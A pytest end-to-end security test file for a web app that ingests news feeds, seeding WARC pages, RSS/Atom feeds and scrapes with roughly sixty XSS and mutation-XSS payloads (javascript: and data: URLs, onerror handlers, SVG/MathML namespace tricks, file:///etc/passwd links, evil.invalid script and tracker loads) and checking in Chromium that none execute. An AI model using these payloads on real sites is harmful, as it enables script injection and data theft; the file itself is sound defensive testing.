"""Hostile content, ingested through the pipeline and rendered by chromium, executes nothing.

The payloads follow ../shared/reference/security-checklist.md section 1b (H-S1 ... H-S11: script URL
schemes, file: links, markup in attributes, script/style/noscript, deep nesting, SVG/MathML namespace
confusion, CSP as second layer, trackers, relative URLs and <base>), plus payloads aimed at the
Markdown overview, the search snippets' private-use markers and the templates. Each payload tries
to set ``window.__pwned`` or open a dialog. They enter as:

- HTML article pages (in a WARC, so they have URLs): in ``<title>``, ``<h1>``, meta description and body,
  both as live markup and as escaped text (so the stored text itself holds markup);
- an RSS and an Atom feed: in entry titles, summaries, contents and links;
- text scrapes in the seed's format: in topic titles, overviews (rendered as Markdown), item titles
  and teasers;
- a listing page whose overview paragraphs carry the payloads;
- feedparser's sanitizer fixtures, as they are and re-packed with a title and date so every one is
  stored and shown.

Nothing is injected into the pages. Every page the site has for this content is loaded in chromium,
twice: as served (with the app's Content-Security-Policy) and with CSP bypassed, so the sanitiser
and escaping must hold on their own. A page passes when no dialog opens, nothing is logged to the
console, no error is thrown, no request goes anywhere but the site, ``window.__pwned`` stays
undefined and the DOM holds no event-handler attribute, script URL, script element or embedding
element.
"""

from __future__ import annotations

import base64
import datetime as dt
import html
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, cast
from urllib.parse import quote

import httpx
import pytest
from sqlalchemy import select

from detente.settings import Settings
from detente.store.db import Database
from detente.store.schema import documents, topic_documents, topics

FIXTURES = ("data", "corpora", "feed-fixtures", "feedparser", "tests", "wellformed", "sanitize")
HOSTILE_TOPIC = "hostile-pages"
FIXTURE_TOPIC = "feedparser-sanitize"
PWN = "window.__pwned=1"

# -- the payloads --------------------------------------------------------------------------------

# (name, payload); single-line HTML fragments, each trying to run PWN or open a dialog.
PAYLOADS: list[tuple[str, str]] = [
    ("iframe-javascript-host", f'<iframe src="javascript://example.org/%0A{PWN}"></iframe>'),
    ("iframe-javascript-upper", f'<iframe src="JAVASCRIPT:{PWN}"></iframe>'),
    ("iframe-data-html", '<iframe src="data:text/html,<script>parent.__pwned=1</script>"></iframe>'),
    (
        "iframe-data-host-child",
        '<iframe src="data://example.org/text/html,<script>alert(1)</script>"><p>child text</p></iframe>',
    ),
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'),
    ("link-vbscript", '<a href="vbscript:msgbox(1)">vbscript link</a>'),
    ("link-javascript", f'<a href="javascript:{PWN}">javascript link</a>'),
    ("link-javascript-tab", f'<a href="java&#x09;script:{PWN}">tabbed javascript link</a>'),
    ("link-javascript-colon-entity", f'<a href="javascript&colon;{PWN}">entity colon link</a>'),
    ("link-javascript-spaces", f'<a href="  \tjavascript:{PWN}">spaced javascript link</a>'),
    ("link-data", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>'),
    ("link-file-href", '<a href="file:///etc/passwd">file href link</a>'),
    ("link-file-src", '<a src="file:///etc/passwd">file src link</a>'),
    ("link-ftp", '<a href="ftp://example.org/pub/x">ftp link</a>'),
    ("attr-markup-rowspan", '<table><tr><td rowspan="<b>injection</b>">cell</td></tr></table>'),
    ("attr-markup-alt", f'<img alt="<script>{PWN}</script>" src="/static/none.png">'),
    ("attr-breakout", f'"><script>{PWN}</script><img src=x onerror="{PWN}">'),
    ("attr-breakout-single", f"'><svg onload={PWN}>"),
    ("script-tag", f"<script>{PWN};alert(1)</script>"),
    ("script-src", '<script src="http://evil.invalid/x.js"></script>'),
    ("style-tag", "<style>body{background:url(http://evil.invalid/bg.png)}</style>"),
    ("style-attr-url", f'<div style="background-image:url(javascript:{PWN})">styled</div>'),
    ("style-expression", f'<div style="width: expression({PWN})">expression</div>'),
    ("noscript-img", f'<noscript><img src=x onerror="{PWN}"></noscript>'),
    ("hidden-paragraph", "<p hidden>hidden paragraph text</p>"),
    ("img-onerror", f"<img src=x onerror={PWN}>"),
    ("img-external-pixel", '<img src="http://evil.invalid/pixel.gif" width="1" height="1">'),
    ("img-protocol-relative", '<img src="//evil.invalid/relative.png">'),
    ("base-javascript", f'<base href="javascript:{PWN}//"><a href="rel">relative link</a>'),
    ("meta-refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">'),
    ("object-data", f'<object data="javascript:{PWN}"></object>'),
    ("embed-data", '<embed src="data:text/html,<script>parent.__pwned=1</script>">'),
    ("link-stylesheet", '<link rel="stylesheet" href="http://evil.invalid/x.css">'),
    ("video-onloadstart", f'<video onloadstart="{PWN}"><source></video>'),
    ("details-ontoggle", f'<details open ontoggle="{PWN}"><summary>s</summary>d</details>'),
    ("input-autofocus", f'<input autofocus onfocus="{PWN}">'),
    ("form-action", f'<form action="javascript:{PWN}"><button>go</button></form>'),
    ("button-formaction", f'<button formaction="javascript:{PWN}">go</button>'),
    (
        "svg-set-href",
        f'<svg><a><set attributeName="href" to="javascript:{PWN}"/><text x="0" y="20">svg link</text></a></svg>',
    ),
    ("svg-onload", f"<svg onload={PWN}></svg>"),
    ("svg-script", f"<svg><script>{PWN}</script></svg>"),
    ("svg-animate-xlink", f'<svg><a xlink:href="javascript:{PWN}"><text y="20">xlink</text></a></svg>'),
    (
        "math-annotation-xml",
        f'<math><annotation-xml encoding="text/html"><img src=x onerror="{PWN}"></annotation-xml></math>',
    ),
    (
        "math-mglyph-style",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror={PWN}&gt;">',
    ),
    ("form-math-mxss", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>"),
    ("noscript-mxss", f'<noscript><p title="</noscript><img src=x onerror={PWN}>">'),
    ("title-close", f"</title><script>{PWN}</script>"),
    ("textarea-close", f"</textarea><script>{PWN}</script>"),
    ("comment-close", f"--><script>{PWN}</script><!--"),
    ("template-syntax", "{{ 7*7 }} {% if true %}jinja{% endif %} ${7*7}"),
    ("private-use-markers", f"\ue000<script>{PWN}</script>\ue001 inspections \ue001</mark><b>"),
    ("unicode-controls", "right\u202eto\u202dleft \u0000nul \ufeffbom"),
    ("deep-nesting-510", "<div>" * 510 + f"deep text 510<img src=x onerror={PWN}>" + "</div>" * 510),
    ("deep-nesting-511", "<div>" * 511 + f"deep text 511<img src=x onerror={PWN}>" + "</div>" * 511),
]

# Aimed at the Markdown renderer of overviews.
MARKDOWN_PAYLOADS: list[tuple[str, str]] = [
    ("md-link-javascript", f"[click me](javascript:{PWN})"),
    ("md-link-javascript-encoded", "[encoded](javascript&#58;alert(1))"),
    ("md-image-javascript", f"![image](javascript:{PWN})"),
    ("md-link-data", "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-autolink-javascript", f"<javascript:{PWN}>"),
    ("md-image-external", "![pixel](http://evil.invalid/pixel.png)"),
    ("md-reference-link", f"[ref link][r1]\n\n[r1]: javascript:{PWN}"),
    ("md-html-block", f'<div onmouseover="{PWN}">hover block</div>'),
    ("md-inline-html", f"text with <img src=x onerror={PWN}> inline"),
]

# Query strings reflected in the search page and error pages.
HOSTILE_QUERIES = [
    f"<script>{PWN}</script>",
    f'"><img src=x onerror={PWN}>',
    "pwned",
    "script",
    "onerror",
    "inspections",
    "iframe javascript",
]


def _filler(rng: random.Random, words: int = 60) -> str:
    vocab = [
        "alliance",
        "council",
        "dialogue",
        "ministers",
        "talks",
        "envoy",
        "treaty",
        "border",
        "patrol",
        "exercise",
        "summit",
        "channel",
        "statement",
        "defence",
        "security",
        "cooperation",
        "partnership",
        "agreement",
        "delegation",
        "verification",
        "report",
    ]
    return " ".join(rng.choice(vocab) for _ in range(words)).capitalize() + "."


def _html_page(n: int, name: str, payload: str, rng: random.Random) -> bytes:
    escaped = html.escape(payload, quote=True)
    page = (
        "<!doctype html><html lang='en'><head><meta charset='utf-8'>"
        f"<title>Hostile page {n:02d} {escaped[:300]}</title>"
        f"<meta name='description' content='Teaser {n:02d} {escaped[:500]}'>"
        f"<meta property='article:published_time' content='2019-{1 + n % 12:02d}-{1 + n % 27:02d}'>"
        f"{payload if len(payload) < 2000 else ''}"
        "</head><body><main><article>"
        f"<h1>Hostile page {n:02d} {escaped[:300]}</h1>"
        f"<p>Escaped text of {name}: {escaped} inspections and verification.</p>"
        f"<p>Live markup of {name}: {payload}</p>"
        f"<p>{_filler(rng)}</p><p>{_filler(rng)}</p>"
        f"<div>{payload}</div><p>{_filler(rng)}</p>"
        "</article></main></body></html>"
    )
    return page.encode("utf-8")


def _rss(rng: random.Random) -> bytes:
    items = []
    for n, (name, payload) in enumerate(PAYLOADS + MARKDOWN_PAYLOADS):
        link = f"https://hostile.example/rss/{name}" if n % 3 else f"javascript:{PWN}"
        day = dt.date(2018, 1, 1) + dt.timedelta(days=5 * n)
        items.append(
            "<item>"
            f"<title>{html.escape(f'RSS {n:02d} {payload[:400]}')}</title>"
            f"<link>{html.escape(link)}</link><guid isPermaLink='false'>rss-{name}</guid>"
            f"<pubDate>{day:%a, %d %b %Y} 08:00:00 GMT</pubDate>"
            f"<description>{html.escape(payload + ' ' + _filler(rng))}</description>"
            f"<content:encoded><![CDATA[{payload.replace(']]>', '')} {_filler(rng)}]]></content:encoded>"
            "</item>"
        )
    feed = (
        '<?xml version="1.0" encoding="utf-8"?>'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        f"<title>{html.escape(f'Hostile RSS <script>{PWN}</script>')}</title>"
        "<link>https://hostile.example/rss/</link>"
        f"<description>{html.escape(f'<img src=x onerror={PWN}>')}</description>"
        + "".join(items)
        + "</channel></rss>"
    )
    return feed.encode("utf-8")


def _atom_entry(ident: str, title: str, payload: str, day: dt.date, filler: str, link: str) -> str:
    return (
        "<entry>"
        f"<title type='html'>{html.escape(title)}</title>"
        f"<id>urn:detente-test:{html.escape(ident)}</id>"
        f"<link href='{html.escape(link, quote=True)}'/>"
        f"<updated>{day.isoformat()}T09:00:00Z</updated>"
        f"<summary type='html'>{html.escape(payload)}</summary>"
        f"<content type='html'>{html.escape(payload + ' ' + filler)}</content>"
        "</entry>"
    )


def _atom(entries: list[str], title: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        f"<title type='html'>{html.escape(title)}</title><id>urn:detente-test:{quote(title)}</id>"
        "<updated>2024-01-01T00:00:00Z</updated>" + "".join(entries) + "</feed>"
    ).encode("utf-8")


def _hostile_atom(rng: random.Random) -> bytes:
    entries = [
        _atom_entry(
            f"atom-{name}",
            f"Atom {n:02d} {payload[:400]}",
            payload,
            dt.date(2017, 1, 1) + dt.timedelta(days=4 * n),
            _filler(rng),
            f"https://hostile.example/atom/{name}" if n % 4 else "data:text/html,<script>alert(1)</script>",
        )
        for n, (name, payload) in enumerate(PAYLOADS + MARKDOWN_PAYLOADS)
    ]
    return _atom(entries, f"Hostile Atom <svg onload={PWN}>")


def _scrape(n: int, name: str, payload: str) -> str:
    """A topic page in the seed's text format with the payload in title, overview, items and teasers."""
    one_line = " ".join(payload.split("\n"))
    title = f"Hostile scrape {n:02d} {one_line}" if len(one_line) < 150 else f"Hostile scrape {n:02d}"
    lines = [
        title,
        f"Overview of {name}: {one_line}",
        payload if "\n" in payload else one_line,
        "moreNews",
        f"Scrape item {n:02d} one {one_line[:300]}",
        f"0{1 + n % 9} Mar. 2016Teaser: {one_line}",
        f"moreScrape item {n:02d} two",
        f"1{n % 9} Apr. 2016{one_line} closing text.",
        "more",
    ]
    return "\n".join(lines) + "\n"


def _listing(rng: random.Random) -> bytes:
    overview = "".join(f"<p>{html.escape(p)}</p>" for _, p in (PAYLOADS[:12] + MARKDOWN_PAYLOADS[:4]))
    entries = "".join(
        f"<li><a href='https://hostile.example/list/{i}'>Listed hostile entry number {i} {html.escape(p[:80])}</a>"
        f"<time datetime='2020-0{1 + i % 9}-1{i % 9}'>1{i % 9} {['Jan', 'Feb', 'Mar'][i % 3]}. 2020</time>"
        f"<p>{html.escape(p)} {_filler(rng, 20)}</p></li>"
        for i, (_, p) in enumerate(PAYLOADS[:8])
    )
    page = (
        "<!doctype html><html><head><title>Hostile listing</title></head><body><main>"
        f"<h1>Hostile listing topic</h1>{overview}<ul class='news'>{entries}</ul></main></body></html>"
    )
    return page.encode("utf-8")


# -- feedparser's sanitizer fixtures -------------------------------------------------------------

_PAYLOAD_ELEMENTS = {
    "title",
    "content",
    "summary",
    "description",
    "subtitle",
    "tagline",
    "info",
    "copyright",
    "rights",
    "body",
    "encoded",
}


def fixture_payload(path: Path) -> str | None:
    """The (unsanitised) HTML a feedparser sanitizer fixture carries, or None when there is none."""
    import lxml.etree

    parser = lxml.etree.XMLParser(resolve_entities=False, no_network=True, recover=True, load_dtd=False)
    try:
        tree = lxml.etree.parse(str(path), parser)
    except lxml.etree.XMLSyntaxError:
        return None
    for el in tree.iter():
        if not isinstance(el.tag, str) or lxml.etree.QName(el).localname not in _PAYLOAD_ELEMENTS:
            continue
        if el.get("mode") == "base64" and el.text:
            try:
                return base64.b64decode(el.text).decode("utf-8", "replace")
            except ValueError:
                return el.text
        if len(el):
            return (el.text or "") + "".join(lxml.etree.tostring(c, encoding="unicode") for c in el)
        if el.text and el.text.strip():
            return el.text
    return None


def _repacked_fixtures(paths: list[Path], rng: random.Random) -> bytes:
    entries = []
    for n, path in enumerate(paths):
        payload = fixture_payload(path)
        if payload is None:
            continue
        entries.append(
            _atom_entry(
                f"fixture-{path.stem}",
                f"{path.stem} {payload[:300]}",
                payload,
                dt.date(2010, 1, 1) + dt.timedelta(days=n),
                _filler(rng, 30),
                f"https://fixtures.example/{path.stem}",
            )
        )
    return _atom(entries, "feedparser sanitizer fixtures")


# -- the site ------------------------------------------------------------------------------------


def _write_hostile_corpus(folder: Path) -> dict[str, list[Path]]:
    from detente.ingest.warcwrite import write_warc

    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(1337)
    fetched = dt.datetime(2024, 1, 2, tzinfo=dt.UTC)
    warc = folder / "hostile-pages.warc.gz"
    write_warc(
        warc,
        [
            (f"https://hostile.example/pages/{name}.html", _html_page(n, name, p, rng), fetched)
            for n, (name, p) in enumerate(PAYLOADS)
        ],
    )
    (folder / "hostile.rss").write_bytes(_rss(rng))
    (folder / "hostile.atom").write_bytes(_hostile_atom(rng))
    (folder / "listing.html").write_bytes(_listing(rng))
    scrapes = []
    for n, (name, payload) in enumerate(PAYLOADS + MARKDOWN_PAYLOADS):
        path = folder / f"scrape-{n:02d}.txt"
        path.write_text(_scrape(n, name, payload), encoding="utf-8")
        scrapes.append(path)
    return {
        "warc": [warc],
        "feeds": [folder / "hostile.rss", folder / "hostile.atom"],
        "listing": [folder / "listing.html"],
        "scrapes": scrapes,
    }


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, e2e: Any) -> Iterator[Any]:
    """Overrides conftest's site: a database holding only hostile content."""
    import importlib.util

    if importlib.util.find_spec("detente.web.app") is None:
        pytest.skip("detente.web.app is not there yet")
    folder = tmp_path_factory.mktemp("hostile")
    settings = Settings(db=str(folder / "hostile.db"), progress=False, workers=1)
    db = Database.open(settings)
    corpus = _write_hostile_corpus(folder / "corpus")
    live = e2e.LiveSite(base_url="", settings=settings, db=db, has_seed=False)
    ingest = e2e.ingest
    live.summaries.append(ingest(db, settings, corpus["warc"], topic=HOSTILE_TOPIC))
    live.summaries.append(ingest(db, settings, corpus["feeds"], topic=HOSTILE_TOPIC))
    live.summaries.append(ingest(db, settings, corpus["listing"]))
    live.summaries.append(ingest(db, settings, corpus["scrapes"]))
    fixtures_dir = e2e.SHARED.joinpath(*FIXTURES)
    if fixtures_dir.is_dir():
        paths = sorted(fixtures_dir.glob("*.xml"))
        live.summaries.append(ingest(db, settings, paths, topic=FIXTURE_TOPIC))  # as they are
        repacked = folder / "corpus" / "fixtures-repacked.atom"
        repacked.write_bytes(_repacked_fixtures(paths, random.Random(99)))
        live.summaries.append(ingest(db, settings, [repacked], topic=FIXTURE_TOPIC))
    with e2e.serve_database(db, settings) as server:
        live.base_url = server.base_url
        yield live
    db.close()


FIXTURE_SAMPLE = 10
"""Every 10th document from feedparser's fixtures is rendered (about 75 of 730): each page load costs
~0.1 s in chromium, and the fixtures vary one attribute or element at a time."""


@dataclass
class SitePaths:
    pages: list[str]
    """Index, topic pages, Atom feeds, archive pages, searches and error pages with hostile paths."""
    documents: list[str]
    """Every document holding our payloads and a sample of the fixture documents."""


def _site_paths(site: Any) -> SitePaths:
    cached = getattr(site, "hostile_paths", None)
    if cached is not None:
        return cast(SitePaths, cached)
    with site.db.read() as conn:
        slugs = list(conn.execute(select(topics.c.slug).order_by(topics.c.slug)).scalars())
        ids = list(conn.execute(select(documents.c.id).order_by(documents.c.id)).scalars())
        fixture_ids = set(
            conn.execute(
                select(topic_documents.c.document_id)
                .join(topics, topics.c.id == topic_documents.c.topic_id)
                .where(topics.c.slug == FIXTURE_TOPIC)
            ).scalars()
        )
    pages = ["/"]
    for slug in slugs:
        base = f"/topics/{quote(slug)}"
        pages += [base, f"{base}/feed.atom", f"{base}/news"]
        last = _archive_pages(site, base)
        if last > 1:
            shown = range(2, last + 1) if slug == HOSTILE_TOPIC else sorted({2, last})
            pages += [f"{base}/news?page={p}" for p in shown]
    pages += [f"/search?q={quote(q)}" for q in HOSTILE_QUERIES]
    pages += [f"/search?q={quote(q)}&order=date" for q in HOSTILE_QUERIES[2:4]]
    pages += [
        f"/topics/{quote(f'<script>{PWN}</script>')}",
        f"/documents/{quote(f'<img src=x onerror={PWN}>')}",
        f"/nowhere/{quote(chr(34) + '><script>alert(1)</script>')}",
    ]
    fixture_docs = sorted(fixture_ids)[::FIXTURE_SAMPLE]
    docs = [f"/documents/{i}" for i in ids if i not in fixture_ids or i in fixture_docs]
    paths = SitePaths(pages=pages, documents=docs)
    site.hostile_paths = paths
    return paths


def _archive_pages(site: Any, base: str) -> int:
    response = httpx.get(site.url(f"{base}/news.json"), timeout=30)
    if response.status_code != 200:
        return 1
    return int(response.json().get("pages", 1))


# -- the checks ----------------------------------------------------------------------------------

# Runs in the page (by the test, through the DevTools protocol) after it has loaded: lists what an
# attacker would need in the DOM. The app's own markup has none of these.
_DOM_AUDIT = """() => {
  const out = [];
  const bad = /^(javascript|vbscript|data|file):/i;
  const urlAttrs = ['href', 'src', 'action', 'formaction', 'data', 'poster', 'background', 'xlink:href',
                    'srcdoc', 'to', 'values', 'from', 'by'];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/[\\u0000-\\u0020]/g, '');
      if (name.startsWith('on')) out.push(`handler ${name} on <${el.localName}>`);
      if (urlAttrs.includes(name) && bad.test(value)) out.push(`${name}=${attr.value.slice(0, 80)} on <${el.localName}>`);
      if (name === 'style' && /(url\\s*\\(|expression\\s*\\()/i.test(attr.value)) out.push(`style ${attr.value.slice(0, 80)}`);
    }
  }
  const forbidden = 'script, iframe, frame, frameset, object, embed, applet, base, meta[http-equiv], ' +
                    'link[rel=import], svg set, svg animate, math annotation-xml, body style, noscript';
  for (const el of document.querySelectorAll(forbidden)) out.push(`element <${el.localName}>: ${el.outerHTML.slice(0, 120)}`);
  for (const el of document.querySelectorAll('img, source, video, audio, input[type=image], link')) {
    const src = el.getAttribute('src') || el.getAttribute('srcset') || el.getAttribute('href') || '';
    if (src && !src.startsWith('/') && !src.startsWith(location.origin) && !src.startsWith('#'))
      out.push(`external <${el.localName}> ${src.slice(0, 80)}`);
    if (src.startsWith('//')) out.push(`protocol-relative <${el.localName}> ${src.slice(0, 80)}`);
  }
  return out;
}"""


def _audit(page: Any, watch: Any, site: Any, path: str) -> list[str]:
    """Load ``path`` and list what went wrong: anything run, logged, requested off-site or left in the DOM."""
    watch.clear()
    problems: list[str] = []
    response = page.goto(site.url(path), wait_until="load", timeout=30_000)
    page.wait_for_timeout(10)
    if response is None:
        return [f"{path}: no response"]
    content_type = response.headers.get("content-type", "")
    if page.evaluate("() => typeof window.__pwned") != "undefined":
        problems.append("window.__pwned was set")
    if "html" in content_type:
        problems += page.evaluate(_DOM_AUDIT)
    else:
        # Chromium asks for /favicon.ico when it shows a non-HTML document (the XML viewer).
        watch.console[:] = [m for m in watch.console if not (_no_favicon(site) and "status of 404" in m)]
    if response.status >= 400:
        # The error status itself is logged as a failed resource load; any other message still counts.
        expected = f"responded with a status of {response.status}"
        watch.console[:] = [m for m in watch.console if expected not in m]
    problems += watch.problems()
    return [f"{path} ({response.status}): {p}" for p in problems]


def _no_favicon(site: Any) -> bool:
    known = getattr(site, "favicon_missing", None)
    if known is None:
        known = site.favicon_missing = httpx.get(site.url("/favicon.ico"), timeout=30).status_code == 404
    return bool(known)


def _run_audit(open_page: Any, site: Any, paths: list[str], *, bypass_csp: bool) -> list[str]:
    page, watch = open_page(bypass_csp=bypass_csp)
    failures: list[str] = []
    for path in paths:
        failures += _audit(page, watch, site, path)
    return failures


VULNERABLE_PAGE = (
    "<!doctype html><html><head><title>t</title></head><body><main>"
    f"<img src=x onerror=\"{PWN}\"><img src='http://evil.invalid/p.png'><script>alert(1)</script>"
    "<a href='javascript:void(0)'>j</a></main></body></html>"
)


def test_the_trap_catches_a_vulnerable_page(browser: Any, e2e: Any) -> None:
    """The checks are not vacuous: a page that does run a payload fails every one of them."""
    from starlette.applications import Starlette
    from starlette.responses import HTMLResponse
    from starlette.routing import Route

    app = Starlette(routes=[Route("/", lambda request: HTMLResponse(VULNERABLE_PAGE))])
    with e2e.LiveServer(app) as server:
        fake = e2e.LiveSite(base_url=server.base_url, settings=None, db=None, has_seed=False)
        fake.favicon_missing = True
        context = browser.new_context()
        try:
            page = context.new_page()
            watch = e2e.watch_page(page, server.base_url)
            found = "\n".join(_audit(page, watch, fake, "/"))
        finally:
            context.close()
    assert "window.__pwned was set" in found
    assert "dialog: alert" in found
    assert "handler onerror on <img>" in found
    assert "element <script>" in found
    assert "href=javascript:void(0) on <a>" in found
    assert "request off 127.0.0.1: http://evil.invalid/p.png" in found


def test_the_hostile_corpus_is_stored(site: Any) -> None:
    """The payloads must reach the store for the rendering tests to mean anything."""
    with site.db.read() as conn:
        count = len(list(conn.execute(select(documents.c.id)).scalars()))
        slugs = set(conn.execute(select(topics.c.slug)).scalars())
    assert count >= 2 * len(PAYLOADS)
    assert HOSTILE_TOPIC in slugs
    assert sum(s.startswith("hostile-scrape-") for s in slugs) >= len(PAYLOADS) // 2


def test_pages_as_served_execute_nothing(site: Any, open_page: Any) -> None:
    """Index, topic pages, archives, Atom feeds, searches and error pages, with the app's CSP."""
    failures = _run_audit(open_page, site, _site_paths(site).pages, bypass_csp=False)
    assert not failures, "\n".join(failures[:60])


def test_pages_execute_nothing_without_the_csp(site: Any, open_page: Any) -> None:
    """With the CSP ignored, escaping and nh3 alone must keep every payload inert."""
    paths = [p for p in _site_paths(site).pages if not p.endswith((".atom", "/news")) and "page=" not in p]
    failures = _run_audit(open_page, site, paths, bypass_csp=True)
    assert not failures, "\n".join(failures[:60])


def test_document_pages_execute_nothing_without_the_csp(site: Any, open_page: Any) -> None:
    """Article pages, CSP ignored (the DOM is the same with it; only what runs differs)."""
    failures = _run_audit(open_page, site, _site_paths(site).documents, bypass_csp=True)
    assert not failures, "\n".join(failures[:60])


def test_every_page_sends_a_csp(site: Any) -> None:
    """HTML and XML responses, error pages included, carry the Content-Security-Policy header."""
    found = _site_paths(site)
    missing = []
    with httpx.Client(timeout=30) as client:
        for path in found.pages + found.documents:
            response = client.get(site.url(path))
            kind = response.headers.get("content-type", "")
            if ("html" in kind or "xml" in kind) and not response.headers.get("content-security-policy"):
                missing.append(f"{path} ({response.status_code}, {kind})")
    assert not missing, "\n".join(missing[:40])


def test_json_twins_are_served_as_json(site: Any) -> None:
    """A JSON body holding payloads must never be served as HTML (it would render in a browser)."""
    found = _site_paths(site)
    paths = [
        p for p in found.pages + found.documents if p.startswith(("/topics/", "/documents/")) and "?" not in p
    ]
    wrong = []
    with httpx.Client(timeout=30) as client:
        for path in paths:
            if path.endswith(".atom"):
                continue
            response = client.get(site.url(path + ".json"))
            kind = response.headers.get("content-type", "")
            if not kind.startswith("application/json"):
                wrong.append(f"{path}.json ({response.status_code}): {kind}")
            elif response.status_code == 200:
                json.loads(response.text)
    assert not wrong, "\n".join(wrong[:40])
